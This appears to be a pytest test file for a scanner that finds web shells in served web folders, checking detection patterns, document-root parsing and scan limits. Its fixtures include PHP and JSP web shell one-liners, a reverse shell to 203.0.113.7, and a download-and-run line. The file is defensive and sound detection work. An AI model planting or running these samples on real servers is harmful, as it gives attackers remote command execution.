from __future__ import annotations

from pathlib import Path

import pytest

from tables.files import served_pages as module
from tables.files.served_pages import ServedPage, served_pages
from tables.host import Host
from tables.host.services.web_folders import parse_document_roots, web_folders
from tables.indicators.served_code import language_of, served_code
from tables.reasons.served_pages import may_run_input, page_reasons
from tables.schema import QueryContext
from tests.support.planted_files import plant
from tests.support.scans import unseen_by

SHELL = "<?php @eval($_POST['x']); ?>"
SAMPLES = [(pattern, sample) for pattern in served_code().patterns for sample in pattern.must_match]
TWINS = [(pattern, sample) for pattern in served_code().patterns for sample in pattern.must_not_match]


def rows(host: Host) -> list[ServedPage]:
    return [row for row in served_pages.generate(host, QueryContext()) if isinstance(row, ServedPage)]


@pytest.mark.parametrize(("pattern", "sample"), SAMPLES, ids=[sample for _, sample in SAMPLES])
def test_a_sample_is_found(pattern: object, sample: str) -> None:
    [language] = next(one.languages for one in served_code().patterns if one is pattern)
    name = next(one.name for one in served_code().patterns if one is pattern)
    assert may_run_input(sample.encode()) and name in page_reasons(language, sample)


@pytest.mark.parametrize(("pattern", "sample"), TWINS, ids=[sample for _, sample in TWINS])
def test_a_twin_is_not(pattern: object, sample: str) -> None:
    [language] = next(one.languages for one in served_code().patterns if one is pattern)
    assert page_reasons(language, sample) == []


@pytest.mark.parametrize(
    ("page", "reasons"),
    [
        ("<?php $c = $_REQUEST['c']; echo '<pre>'; system($c . ' 2>&1');", ["runs_request_input"]),
        ('<?php $c = base64_decode($_COOKIE["c"]);\n$p = popen("sh -c " . $c, "r");', ["runs_request_input"]),
        ("<?php $p = $_POST; eval($p['a']);", ["runs_request_input"]),
        ("<?php $f = 'sys' . 'tem'; $f($_GET['c']);", ["runs_request_input"]),
        ("<?php $c = $_GET['c']; exec('ls'); echo $c;", []),
        ("<?php $c = escapeshellarg($_GET['c']); exec('ls ' . $c);", []),
        ("<?php $c = $_GET['c'] == 1; if (system($cmd)) {}", []),
        (
            "<?php $s = fsockopen('203.0.113.7', 443); proc_open('/bin/sh -i', array(0 => $s), $p);",
            ["reverse_shell"],
        ),
        ("<?php shell_exec(file_get_contents('http://203.0.113.7/a'));", ["download_and_run"]),
    ],
)
def test_what_a_page_does_with_its_input(page: str, reasons: list[str]) -> None:
    assert page_reasons("php", page) == reasons


def test_pages_are_told_by_their_names() -> None:
    names = ("a.php", "a.PHP5", "a.phtml", "x.jsp", "x.aspx", "php", "a.js", "a.php.txt", "a.")
    assert [language_of(name) for name in names] == ["php", "php", "php", "jsp", "aspx", None, None, None, None]


def test_the_folders_of_sites(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/nginx/sites-enabled/a", 'server {\n  root /data/site/public;\n  root "$x";\n  alias /var/lib;\n}\n')
    plant(tmp_path, "/etc/apache2/sites-enabled/b.conf", '<VirtualHost *>\n DocumentRoot "/var/www/b"\n#DocumentRoot /no/no\n')
    plant(tmp_path, "/var/lib/tomcat9/webapps/ROOT/x.jsp")
    folders = web_folders(Host(str(tmp_path)).files, ["/home/kim"])
    assert {"/data/site/public", "/var/www", "/var/lib/tomcat9/webapps", "/home/kim/public_html"} <= set(folders)
    assert not {"/var/www/b", "/no/no", "/var/lib"} & set(folders)
    assert list(parse_document_roots("root /;\nroot /etc;\n")) == []


def test_shells_are_rows_and_pages_are_not(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/passwd", "root:x:0:0::/root:/bin/sh\nkim:x:1000:1000::/home/kim:/bin/sh\n")
    plant(tmp_path, "/etc/nginx/conf.d/a.conf", "root /data/site/public;\n")
    shells = (
        "/var/www/html/wp-content/uploads/2026/.a/x.php",
        "/home/kim/public_html/x.phtml",
        "/data/site/public/x.php",
    )
    for path in shells:
        plant(tmp_path, path, SHELL)
    plant(tmp_path, "/var/lib/tomcat9/webapps/ROOT/x.jsp", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>')
    plant(tmp_path, "/var/www/html/index.php", "<?php require __DIR__ . '/wp-blog-header.php'; echo $_GET['a']; exec('ls');")
    plant(tmp_path, "/var/www/html/x.txt", SHELL)
    plant(tmp_path, "/srv/app/x.php", SHELL)
    host = Host(str(tmp_path))
    found = {row.path: row for row in rows(host)}
    assert sorted(found) == sorted([*shells, "/var/lib/tomcat9/webapps/ROOT/x.jsp"])
    assert {row.reasons for row in found.values()} == {"runs_request_input"}
    hidden = found[shells[0]]
    assert (hidden.site, hidden.language, hidden.is_hidden, bool(hidden.sha256)) == ("/var/www", "php", True, True)
    assert unseen_by(served_pages, host) == ()


def test_what_did_not_change_is_not_read_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plant(tmp_path, "/var/www/x.php", SHELL)
    host = Host(str(tmp_path))
    assert len(rows(host)) == 1
    monkeypatch.setattr(module, "may_run_input", lambda data: pytest.fail("read again"))
    assert len(rows(host)) == 1


def test_bounds_are_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plant(tmp_path, "/var/www/a.php", SHELL + " " * 100)
    plant(tmp_path, "/var/www/b.php", SHELL)
    monkeypatch.setattr(module, "_PAGE_LIMIT", 64)
    monkeypatch.setattr(module, "_MOST_BYTES", 64)
    query = QueryContext()
    [row] = [row for row in served_pages.generate(Host(str(tmp_path)), query) if isinstance(row, ServedPage)]
    assert (row.path, row.sha256 or None) == ("/var/www/a.php", None)
    assert query.truncated and "/var/www/a.php: only the first" in query.truncated
